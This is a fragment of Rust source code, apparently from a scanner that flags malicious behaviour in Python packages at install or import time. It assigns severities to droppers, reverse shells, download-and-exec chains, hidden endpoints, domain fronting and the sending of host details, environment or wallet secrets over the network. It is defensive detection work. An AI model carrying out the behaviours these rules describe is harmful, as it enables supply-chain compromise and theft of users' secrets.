        via.push_str(&format!(" (in {m}, which {} runs)", entry.rsplit('/').next().unwrap_or(entry)));
    }
    if indirect {
        via.push_str(" (in functions of the package that the top level calls)");
    }
    let at =
        |e: &Ev, rule: String, sev: Severity, msg: String| Finding::new(&rule, weigh(sev), ctx, &e.path, Some(e.line), &e.excerpt, &msg);

    // Downloading and running programs reached from the import, even behind a condition, is no
    // version lookup: it keeps its full weight (held for review, not refused).
    let at_full = |e: &Ev, rule: String, sev: Severity, msg: String| Finding::new(&rule, sev, ctx, &e.path, Some(e.line), &e.excerpt, &msg);
    let mut out = Vec::new();
    let main = match (net, run, host.is_some() || env_attr) {
        (Some(n), Some(_), _) => Some(at_full(
            &n,
            format!("{tag}-download-exec"),
            if install { Severity::Critical } else { Severity::High },
            if install {
                format!("setup.py uses the network and runs programs or dynamic code while the package installs{via}")
            } else {
                format!("importing the package uses the network and runs programs or dynamic code{via}")
            },
        )),
        (Some(n), None, true) => Some(at(
            &n,
            format!("{tag}-exfil-hostinfo"),
            Severity::High,
            format!(
                "collects host or user information (host name, user, working directory, environment) and sends it over the network while the package installs or is imported{via}"
            ),
        )),
        (Some(n), None, false) => {
            // Posing as a browser is for getting past whoever watches; an update check says
            // who it is.
            let disguised = n.excerpt.contains("Mozilla/5.0");
            Some(at(
                &n,
                format!("{tag}-network"),
                // setup.py has no business on the network; import-time update checks exist.
                if install || disguised { Severity::High } else { Severity::Medium },
                if disguised {
                    format!(
                        "uses the network while the package installs or is imported, posing as a web browser (User-Agent Mozilla/5.0){via}"
                    )
                } else {
                    format!("uses the network while the package installs or is imported{via}")
                },
            ))
        }
        (None, Some(r), _) if r.process && foreign_program(&r.excerpt).is_some() => {
            let program = foreign_program(&r.excerpt).unwrap_or_default();
            Some(at_full(
                &r,
                "py-foreign-program".to_string(),
                Severity::High,
                format!(
                    "starts `{program}` as soon as the package {}: a desktop application or a power control is never part of a build or an import (a demonstration that code runs here, or sabotage){via}",
                    if install { "installs" } else { "is imported" }
                ),
            ))
        }
        (None, Some(r), _) if install && r.process => Some(at(
            &r,
            "py-install-process".to_string(),
            Severity::Low,
            format!("runs an external program while the package installs (common for builds; weighs more with network use){via}"),
        )),
        (None, Some(r), _) if r.process => {
            // Starting Python itself, a detached or hidden program, or a file by association
            // has no place in an import: version lookups run `git`, not a second interpreter.
            let lower = r.excerpt.to_ascii_lowercase();
            let hidden = r.hidden || HIDDEN_LAUNCH.iter().any(|k| lower.contains(k));
            // Started out of sight, it keeps its weight through the package's functions too.
            let at =
                |e: &Ev, rule: String, sev: Severity, msg: String| if hidden { at_full(e, rule, sev, msg) } else { at(e, rule, sev, msg) };
            Some(at(
                &r,
                "py-import-process".to_string(),
                if hidden { Severity::High } else { Severity::Medium },
                if hidden {
                    format!("starts a Python process or a detached program as soon as the package is imported{via}")
                } else {
                    format!("runs an external program as soon as the package is imported{via}")
                },
            ))
        }
        _ => None,
    };
    out.extend(main);
    out
}

/// Turns what one file does into findings, by context.
fn combine(path: &str, ctx: Context, a: Analyzer, facts: &mut Facts) {
    let first = |cap: Cap| a.calls.iter().find(|c| c.caps.contains(&cap));
    let line = |c: Option<&Call>| c.map(|c| c.line);
    let excerpt = |c: Option<&Call>| c.map(|c| a.line_text(c.line)).unwrap_or_default();
    // Code runs at install for the whole of setup.py; at import only at the top of __init__.
    let runs_now = |c: &Call| ctx == Context::Install || (ctx == Context::Import && c.top_level);
    // Direct evidence first; a call that only reaches the capability through one of the file's
    // own functions is used when there is nothing better.
    let now = |cap: Cap| {
        let mut hits = a.calls.iter().filter(|c| c.caps.contains(&cap) && runs_now(c));
        let first = hits.next();
        first.filter(|c| !c.indirect).or_else(|| hits.find(|c| !c.indirect)).or(first)
    };

    for (cap, l, text, top) in &a.chains {
        let eager = ctx == Context::Install || (ctx == Context::Import && *top);
        let (rule, sev, msg) = match cap {
            Cap::Network => ("py-network-exec", Severity::Critical, "code downloaded from the network is executed with exec/eval"),
            _ => (
                "py-decode-exec",
                Severity::Critical,
                if eager {
                    "decoded, decrypted or decompressed data is executed with exec/eval/compile as the package installs or is imported: hidden code"
                } else {
                    "decoded, decrypted or decompressed data is executed with exec/eval/compile: hidden code"
                },
            ),
        };
        facts.findings.push(Finding::new(rule, sev, ctx, path, Some(*l), text, msg));
    }

    let ev = |c: &Call| Ev {
        path: path.to_string(),
        line: c.line,
        excerpt: a.line_text(c.line),
        indirect: c.indirect,
        process: c.caps.contains(&Cap::Process),
        // A call into one of the file's functions starts what they start.
        hidden: a.hidden_launches.contains(&c.line) || (c.indirect && c.caps.contains(&Cap::Process) && !a.hidden_launches.is_empty()),
    };
    let net = now(Cap::Network).map(ev);
    let run = now(Cap::Process).or_else(|| now(Cap::DynamicExec)).map(ev);
    let host = now(Cap::HostInfo).or_else(|| now(Cap::EnvAccess)).map(ev);
    let env_attr = ctx == Context::Install && a.has_env_attr.is_some();
    facts.findings.extend(behaviour(ctx, path, net, run, host, env_attr, None));
    let eager_ctx = ctx == Context::Install || ctx == Context::Import;
    let packed = facts.findings.iter().any(|f| f.rule == "py-long-line");
    let dropped = a.written_then_run().filter(|_| a.caps.contains_key(&Cap::Network) || a.decoded_write.is_some());
    let dropped_what = if a.caps.contains_key(&Cap::Network) { "downloads" } else { "decodes" };
    let eager_or = |s: Severity| if eager_ctx { Severity::Critical } else { s };
    // Findings tied to one line: (where, rule, severity, message).
    // Several names in look-alike characters: obfuscator output.
    let confusable = (a.confusable_names.len() >= 4).then(|| a.confusable_names[0].1);
    let at_line: [(Option<u32>, &str, Severity, String); 16] = [
        // Shapes that are malicious wherever they sit: what they do has no honest reading.
        (
            dropped,
            "py-drop-run",
            Severity::Critical,
            format!("{dropped_what} data, writes it to a file and runs that same file: a dropper"),
        ),
        (
            a.remote_command,
            "py-remote-command",
            Severity::Critical,
            "runs a program with a command received from the network (a socket, a web response or a chat message): a backdoor".into(),
        ),
        (
            a.raw_ip_send,
            "py-exfil-raw-ip",
            Severity::Critical,
            "sends data to a hard-coded public IP address instead of a host name: how stealers and backdoors reach their servers".into(),
        ),
        (
            a.oob_request,
            "py-exfil-oob",
            Severity::Critical,
            "sends a request to an out-of-band interaction service, a request catcher or a tunnel: how dependency-confusion probes and stealers report home"
                .into(),
        ),
        (
            a.secret_exfil,
            "py-exfil-secret",
            Severity::Critical,
            "sends a wallet private key, a seed phrase or the whole environment over the network".into(),
        ),
        // Executing run-time-built code in a file that also carries packed, enormous lines.
        (
            a.dynamic_exec.filter(|_| packed),
            "py-packed-exec",
            eager_or(Severity::High),
            "executes run-time-built code in a file with packed lines of thousands of characters: an obfuscated payload".into(),
        ),
        (
            a.dynamic_exec.filter(|_| ctx == Context::Install),
            "py-install-dynamic-exec",
            Severity::Low,
            "setup.py executes code built at run time with exec/eval (not a literal, not a file of the package)".into(),
        ),
        (
            a.hidden_endpoint,
            "py-hidden-endpoint",
            Severity::Critical,
            "a network request whose address or data is decoded at run time: an endpoint hidden from reviewers".into(),
        ),
        // Decoding a command line only to run it has no honest use.
        (a.hidden_command, "py-hidden-command", Severity::Critical, "runs a program whose command line is decoded at run time".into()),
        (
            a.pip_install.filter(|_| eager_ctx),
            "py-install-pip-install",
            Severity::Medium,
            "installs further packages with pip while this package installs or is imported, outside the resolver's view".into(),
        ),
        // Host details sent out from ordinary code (install and import time are covered above):
        // only when they flow into the request, since clients routinely send a user agent with
        // the OS.
        (
            a.shell_drop_run,
            "py-shell-download-exec",
            Severity::Critical,
            "runs a shell command that downloads something and runs it (piped into a shell, made executable and started)".into(),
        ),
        (
            a.shell_exfil.filter(|_| eager_ctx),
            if ctx == Context::Install { "py-install-exfil-hostinfo" } else { "py-import-exfil-hostinfo" },
            Severity::High,
            "runs a command that reads out who and where it runs (whoami, hostname) and sends it over the network, while the package installs or is imported".into(),
        ),
        (
            a.piped_shell.filter(|_| a.socket_to_const.is_some()),
            "py-reverse-shell",
            Severity::Critical,
            "connects a socket to a host written into the code and starts a shell whose input is piped: a reverse shell that takes commands from that host".into(),
        ),
        (
            a.hidden_import,
            "py-hidden-import",
            eager_or(Severity::High),
            "imports a module whose name is decoded at run time: what the code uses is kept from readers".into(),
        ),
        (
            a.fronting,
            "py-domain-fronting",
            eager_or(Severity::High),
            "sends a request to one site with a Host header naming another (domain fronting): the network sees the first, the request reaches the second".into(),
        ),
        (
            confusable,
            "py-confusable-names",
            eager_or(Severity::High),
            "names several things with look-alike characters only (`O0O0l11lO1`, `S22SS2S2S2`): the output of obfuscators that hide what code does"
                .into(),
        ),
    ];
    for (l, rule, severity, message) in at_line {
        if let Some(l) = l {
            facts.findings.push(Finding::new(rule, severity, ctx, path, Some(l), &a.line_text(l), &message));
        }
    }
    // Host details sent from a module's top level go out whenever the module is imported, which
    // is how a module is used: they weigh like the package's own import.
    if let Some(l) = a.hostinfo_flow.filter(|_| !eager_ctx) {
        let top = ctx == Context::Module && a.calls.iter().any(|c| c.line == l && c.top_level);
        let (at, message) = if top {
            (
                Context::Import,
                "host or user details (host name, user name, MAC address) flow into a network request at the top level of a module: it is sent whenever the module is imported",
            )
        } else {
            (ctx, "host or user details (host name, user name, MAC address) flow into a network request")
        };
        facts.findings.push(Finding::new("py-exfil-hostinfo", Severity::High, at, path, Some(l), &a.line_text(l), message));
    }
    // Downloading, writing and running a file in one file: a dropper. Installers and build tools
    // do this honestly too, so it weighs fully only where code runs by itself.
    if let (Some(n), Some(w), Some(r)) = (first(Cap::Network), first(Cap::FileWrite), first(Cap::Process)) {
        let _ = w;
        facts.findings.push(Finding::new(
            "py-dropper",
            if eager_ctx { Severity::High } else { Severity::Low },
            ctx,
            path,
            line(Some(n)),
            &excerpt(Some(r)),
            "downloads data, writes a file and runs a program: the shape of a dropper",
        ));
    }
}

#[cfg(test)]
mod tests;
